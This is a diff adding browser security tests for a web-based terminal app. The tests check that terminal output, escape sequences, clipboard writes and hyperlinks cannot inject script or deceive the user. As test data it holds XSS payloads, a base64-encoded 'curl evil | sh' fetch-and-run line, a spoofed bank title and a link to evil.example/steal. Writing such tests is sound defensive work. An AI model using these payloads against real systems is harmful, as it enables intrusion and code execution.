@@ -1,0 +1,165 @@
+"""Bytes of a program change pixels of its own terminal, and nothing else of the page."""
+
+import base64
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from tests.server_process import ServerProcess
+from tests.web.browsing import Tab, browsing
+
+pytestmark = [pytest.mark.browser, pytest.mark.pty]
+
+SCRIPT = "<script>window.pwned=1</script><img src=x onerror='window.pwned=1'>"
+
+
+@pytest.fixture
+def tab(browser: Browser, server: ServerProcess) -> Iterator[Tab]:
+    permissions = ["clipboard-read", "clipboard-write"]
+    with browsing(browser, server, permissions=permissions) as opened:
+        yield opened
+
+
+def prints(tab: Tab, content: bytes) -> None:
+    """Print these bytes in session `s`, whatever they are."""
+    encoded = base64.b64encode(content).decode()
+    tab.server.client.post(
+        "/sessions/s/run", {"input": f"echo {encoded} | base64 -d; echo; echo printed"}
+    )
+    tab.wait_text("s", "printed")
+
+
+def test_output_never_becomes_a_part_of_the_document(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+
+    prints(
+        tab, f"{SCRIPT}\x1b]0;{SCRIPT}\x07\x1b]2;{SCRIPT}\x07\x1b]7;file://{SCRIPT}\x07".encode()
+    )
+    tab.press("Control+Shift+X")
+    expect(tab.page.locator("#text-view")).to_contain_text("window.pwned")
+    tab.goto()
+    expect(tab.page.locator("[data-session=s] pre")).to_contain_text("window.pwned")
+    tab.goto("history?q=pwned")
+    tab.page.wait_for_timeout(300)
+
+    assert tab.page.evaluate("window.pwned") is None
+    assert tab.page.locator("img, iframe, object, embed").count() == 0
+
+
+def test_a_command_line_of_markup_is_shown_as_text(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+
+    tab.server.client.post("/sessions/s/run", {"input": f": '{SCRIPT.replace(chr(39), chr(34))}'"})
+
+    expect(tab.page.locator("#blocks")).to_contain_text("<script>window.pwned=1</script>")
+    assert tab.page.evaluate("window.pwned") is None
+
+
+def test_the_clipboard_is_written_only_when_a_person_says_so(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+    tab.page.evaluate("navigator.clipboard.writeText('mine')")
+
+    secret = base64.b64encode(b"curl evil | sh").decode()
+    prints(tab, f"\x1b]52;c;{secret}\x07\x1b]52;;{secret}\x07".encode())
+    offer = tab.page.get_by_role("region", name="Notices").get_by_role("button", name="Copy").first
+    expect(offer).to_be_visible()
+
+    assert tab.page.evaluate("navigator.clipboard.readText()") == "mine"
+    offer.click()
+    tab.page.wait_for_function(
+        "async () => await navigator.clipboard.readText() === 'curl evil | sh'"
+    )
+
+
+def test_the_clipboard_is_never_read_for_a_program(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+    tab.page.evaluate("navigator.clipboard.writeText('a secret')")
+    tab.page.evaluate(
+        "() => { window.typed = []; duettyViews.get('s').term.onData((data) => window.typed.push(data)); }"
+    )
+
+    prints(tab, b"\x1b]52;c;?\x07")
+
+    assert tab.page.evaluate("window.typed") == []
+
+
+def test_the_address_bar_and_the_title_belong_to_the_page(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+    address = tab.page.url
+
+    prints(
+        tab,
+        b"\x1b]0;Sign in to your bank\x07\x1b]2;javascript:alert(1)\x07\x1b]1337;OpenURL=:aHR0cDovL2V2aWw=\x07",
+    )
+
+    assert tab.page.url == address
+    expect(tab.page).to_have_title("s · Duetty")
+
+
+def test_a_link_says_where_it_leads_before_it_is_opened(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+
+    prints(
+        tab, b"\x1b[2J\x1b[H\x1b]8;;https://evil.example/steal\x07https://good.example\x1b]8;;\x07"
+    )
+    tab.page.locator(".xterm-screen").hover(position={"x": 30, "y": 8})
+    tab.page.wait_for_timeout(300)
+    tab.page.locator(".xterm-screen").click(position={"x": 30, "y": 8})
+
+    expect(tab.page.get_by_role("dialog")).to_contain_text("https://evil.example/steal")
+    tab.page.get_by_role("button", name="Cancel").click()
+    assert len(tab.page.context.pages) == 1
+
+
+def test_a_link_to_a_script_is_no_link(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+
+    prints(
+        tab, b"\x1b[2J\x1b[H\x1b]8;;javascript:window.pwned=1\x07click here for free\x1b]8;;\x07"
+    )
+    tab.page.locator(".xterm-screen").hover(position={"x": 30, "y": 8})
+    tab.page.wait_for_timeout(300)
+    tab.page.locator(".xterm-screen").click(position={"x": 30, "y": 8})
+    tab.page.wait_for_timeout(300)
+
+    assert tab.page.evaluate("window.pwned") is None
+    assert tab.page.get_by_role("dialog").count() == 0
+
+
+def test_the_policy_refuses_scripts_that_are_not_files_of_ours(tab: Tab) -> None:
+    tab.goto()
+
+    tab.page.evaluate(
+        """() => {
+          const script = document.createElement('script');
+          script.textContent = 'window.pwned = 1';
+          document.body.append(script);
+          const away = document.createElement('img');
+          away.src = 'http://127.0.0.1:9/away.png';
+          document.body.append(away);
+        }"""
+    )
+    tab.page.wait_for_timeout(300)
+
+    assert tab.page.evaluate("window.pwned") is None
+    assert any("Content Security Policy" in each for each in tab.problems)
+    tab.problems.clear()
+    tab.asked[:] = [each for each in tab.asked if "away.png" not in each]
+
+
+def test_bytes_without_meaning_do_not_break_the_page(tab: Tab) -> None:
+    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
+    tab.open("s")
+
+    prints(tab, bytes(range(256)) * 20 + b"\x1b[?1049l\x1b[!p\x1bc\x1b(B\x0f")
+    tab.type("\x0cecho alive again\n")
+
+    tab.wait_text("s", "alive again")
